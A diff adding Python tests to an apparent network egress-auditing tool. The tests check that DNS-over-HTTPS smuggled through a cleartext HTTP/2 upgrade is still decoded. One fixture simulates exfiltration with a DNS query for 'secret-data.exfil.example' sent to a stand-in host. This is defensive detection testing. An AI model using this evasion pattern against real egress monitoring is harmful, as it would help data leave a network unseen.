@@ -228,3 +228,45 @@ def test_an_http_connect_on_443_does_not_pass_for_the_sni_sent_through_it(tmp_pa
         b"CONNECT pypi.org:443 HTTP/1.1\r\nHost: pypi.org:443\r\n\r\n" + hello(b"pypi.org")).ack().close()
     ea = _flow(tmp_path, c.packets)["egress_auditor"]
     assert (ea["verdict"], ea["reason"]) == ("denied", "fqdn_needs_sni_or_host")
+
+
+# -- cleartext HTTP/2 after an HTTP/1.1 Upgrade ------------------------------------------------
+
+_UPGRADE = (b"GET / HTTP/1.1\r\nHost: www.example.org\r\nConnection: Upgrade, HTTP2-Settings\r\n"
+            b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n")
+
+
+def test_doh_after_an_h2c_upgrade_is_decoded_as_with_prior_knowledge():
+    """An innocent HTTP/1.1 request asking `Upgrade: h2c`, the server's 101, then DoH over
+    HTTP/2: the DNS inside is read (it was not: only prior knowledge was followed)."""
+    query = dns.message.make_query("secret-data.exfil.example", "A")
+    query.id = 0
+    req = h2_request(hpack.Encoder(), [(":method", "POST"), (":scheme", "http"),
+                                       (":authority", "www.example.org"), (":path", "/dns-query"),
+                                       ("content-type", "application/dns-message")],
+                     stream=3, end_stream=False) + h2_frame(0, 1, 3, query.to_wire())
+    response = dns.message.make_response(query)
+    response.answer.append(dns.rrset.from_text("secret-data.exfil.example.", 300, "IN", "A", "203.0.113.7"))
+    reply = (b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
+             + h2_frame(4, 0, 0, b"") + h2_request(hpack.Encoder(), [(":status", "200"),
+             ("content-type", "application/dns-message")], stream=3, end_stream=False)
+             + h2_frame(0, 1, 3, response.to_wire()))
+    c = Conn(server=DOH, dport=80).handshake().send(_UPGRADE).ack().reply(reply[:40])
+    c.send(H2_PREFACE + req).reply(reply[40:]).close()
+    pipe, rec = run_pipeline(c.packets, node_networks=["10.0.0.0/8"])
+    (q,) = rec.of(DnsQuery)
+    assert q.message.questions[0][0] == "secret-data.exfil.example"
+    (answer,) = rec.of(DnsAnswered)
+    assert answer.solicited and "203.0.113.7" in answer.chains
+    (named,) = rec.of(FlowNamed)
+    assert (named.flow.domain, named.flow.name_source, named.flow.doh) == ("www.example.org", "http_host", True)
+    assert sum(pipe.telemetry.malformed.values()) == 0 and pipe.tracker.budget.held == 0
+
+
+def test_a_refused_h2c_upgrade_is_no_malformed_http():
+    c = Conn(server=SERVER, dport=80).handshake().send(_UPGRADE).ack()
+    c.reply(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok").send(
+        b"GET /next HTTP/1.1\r\nHost: www.example.org\r\n\r\n").ack().close()
+    pipe, rec = run_pipeline(c.packets, node_networks=["10.0.0.0/8"])
+    assert sum(pipe.telemetry.malformed.values()) == 0 and pipe.tracker.budget.held == 0
+    assert rec.of(FlowNamed)[0].flow.domain == "www.example.org"
